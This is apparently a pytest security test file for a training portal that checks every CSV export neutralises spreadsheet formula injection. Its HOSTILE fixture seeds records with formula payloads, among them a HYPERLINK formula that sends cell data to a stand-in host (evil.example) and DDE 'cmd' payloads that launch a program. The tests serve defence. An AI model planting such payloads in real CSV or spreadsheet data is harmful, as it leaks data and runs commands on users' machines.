"""CSV formula injection (issue 12, item 2): no CSV the portal produces lets a spreadsheet program
run a cell as a formula.

The world's names, emails, titles and agency names all start with a character that makes a
spreadsheet read a formula (`=`, `+`, `-`, `@`, tab, carriage return). Then every GET rule of the
URL map is requested by every home identity, every `.csv`/`.zip` link those pages show is followed,
and every CSV found (a text/csv response, or a CSV inside a ZIP) is read back with the csv module:
no cell may start with such a character unless it is a number. The CLI export is read the same
way. A CSV endpoint added later is walked without touching this file; a module that writes CSV
without `portal.csv_export` is caught by the last test.
"""
import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
import sqlalchemy as sa

from portal import csv_export
from portal.audit.services import record
from portal.auth.roles import Role
from portal.certificates.models import Certificate
from portal.classes.models import Enrollment
from portal.extensions import db
from portal.quizzes.models import Quiz
from tests.security.support import ANONYMOUS, allowed, build, rules

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"Sheriff, County")',
    "first": "+SUM(1+1)",
    "last": "=cmd|' /C calc'!A0",
    "email": "=cmd|'/c calc'!A0@example.com",
    "quiz": "-2+3 Week one exam",
    "question": "=1+1 question",
    "course": "@SUM(1+1) Basic course",
    "code": "\tTAB-287G",
    "nominee_first": "\rCR nominee",
    "nominee_last": "@nominee",
    "nominee_email": "-nominee@example.com",
}
ROOT = Path(__file__).resolve().parents[2]


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


class _Links(HTMLParser):
    def __init__(self, html: str):
        super().__init__()
        self.links: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href") or ""
        if tag == "a" and href.startswith("/") and href.split("?")[0].endswith((".csv", ".zip")):
            self.links.add(href)


@pytest.fixture
def hostile(ids, make):
    """The home world of the URL-map walk, renamed with formula-like text everywhere a CSV shows
    text: the agency, its officer and coordinator, the course, its exam and a question (with a
    graded attempt, for the item analysis), a nomination, the certificate's copies of those names
    and an audit event. Everyone signs in first (the email is not one to sign in with)."""
    for identity in (Role.OFFICER, Role.INSTRUCTOR, Role.COORDINATOR, Role.ADMIN):
        ids.client(identity)
    officer = ids.users[Role.OFFICER]
    agency = officer.agency
    agency.name = HOSTILE["agency"]
    for user in (officer, ids.users[Role.COORDINATOR]):
        user.first_name, user.last_name = HOSTILE["first"], HOSTILE["last"]
    officer.email = HOSTILE["email"]
    quiz = db.session.get(Quiz, ids.values["quiz_id"])
    quiz.title = HOSTILE["quiz"]
    questions = [slot.question for slot in quiz.slots]
    questions[0].name = HOSTILE["question"]
    enrollment = db.session.get(Enrollment, ids.values["enrollment_id"])
    make.attempt(quiz, enrollment, True, number=2, answers=[(q, 1.0) for q in questions])  # for the item analysis
    quiz.course.title, quiz.course.code = HOSTILE["course"], HOSTILE["code"]
    make.nomination(agency=agency, first=HOSTILE["nominee_first"], last=HOSTILE["nominee_last"],
                    email=HOSTILE["nominee_email"])
    db.session.execute(sa.update(Certificate).where(Certificate.officer_id == officer.id).values(
        officer_name=officer.full_name, agency_name=agency.name, course_title=HOSTILE["course"],
        course_code=HOSTILE["code"]))
    record("officer_nominated", agency, actor=officer, note=HOSTILE["nominee_first"])  # for the audit log's CSV
    db.session.flush()
    return ids


def csv_documents(response) -> dict[str, bytes]:
    """The CSV files a response carries: itself, or the .csv members of a ZIP."""
    if response.mimetype == "text/csv":
        return {"": response.data}
    if response.mimetype == "application/zip":
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            return {name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    return {}


def test_every_csv_download_neutralises_every_formula_like_cell(app, hostile):
    found: dict[str, list[list[str]]] = {}
    for identity in (ANONYMOUS, Role.OFFICER, Role.INSTRUCTOR, Role.COORDINATOR, Role.ADMIN):
        client = hostile.client(identity)
        urls = {build(rule, hostile.values) for rule in rules(app)
                if "GET" in rule.methods and allowed(app, rule, identity)}
        followed: set[str] = set()
        while urls:
            url = urls.pop()
            followed.add(url)
            response = client.get(url)
            assert response.status_code < 500, f"{identity} GET {url}: {response.status_code}"
            if response.mimetype == "text/html":
                urls |= _Links(response.get_data(as_text=True)).links - followed
            for member, data in csv_documents(response).items():
                found[f"{identity} {url} {member}".strip()] = read_csv(data)
    problems = {where: cells for where, rows in found.items() if (cells := formula_cells(rows))}
    assert problems == {}

    walked = {where.split(" ", 1)[1] for where in found}
    for expected in ("gradebook.csv", "statistics.csv", "/admin/audit/events.csv", "/admin/reports/officers.csv",
                     "/admin/reports/pass-rate.csv", "/agency/reports/officer-status.csv", "roster-template.csv",
                     "certificates.zip manifest.csv"):
        assert any(expected in where for where in walked), f"the walk found no {expected}: {sorted(walked)}"
    cells = {cell for rows in found.values() for row in rows for cell in row}
    # Each hostile text reached a CSV, neutralised, inside some cell (so the walk tested it).
    for key, text in HOSTILE.items():
        assert any(cell.startswith("'") and text.strip("\t\r") in cell for cell in cells), f"{key} in no CSV"
    gradebook = next(rows for where, rows in found.items() if "gradebook.csv" in where)
    assert "'" + HOSTILE["quiz"] in gradebook[0]  # a header cell
    assert ["'" + HOSTILE["last"] + ", " + HOSTILE["first"], "'" + HOSTILE["email"], "'" + HOSTILE["agency"]] == gradebook[1][:3]


def test_the_cli_export_manifest_neutralises_every_formula_like_cell(app, hostile, tmp_path):
    result = app.test_cli_runner().invoke(args=["certificates", "export", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    rows = read_csv((tmp_path / "manifest.csv").read_bytes())
    assert formula_cells(rows) == []
    officer = hostile.users[Role.OFFICER]
    row = next(r for r in rows if r[1] == "'" + officer.full_name)
    assert row[2:5] == ["'" + HOSTILE["agency"], "'" + HOSTILE["code"], "'" + HOSTILE["course"]]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), (None, ""),
    (-1, "-1"), (-2.5, "-2.5"), (0, "0"), (Decimal("-1.50"), "-1.50"), (True, "True"), (date(2026, 1, 2), "2026-01-02"),
])
def test_a_cell_is_neutralised_when_it_is_text_and_kept_when_it_is_a_number(value, written):
    assert read_csv(csv_export.document([value], [])) == [[written]]


def test_the_header_row_is_neutralised_too():
    assert read_csv(csv_export.document(["=title", "Plain"], [[-3, "-3"]])) == [["'=title", "Plain"], ["-3", "'-3"]]


def test_no_module_but_csv_export_writes_csv():
    """A CSV written with the csv module directly would skip the guard."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b")
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "portal").rglob("*.py")
                 if writers.search(path.read_text(encoding="utf-8")) and path.name != "csv_export.py"]
    assert offenders == []
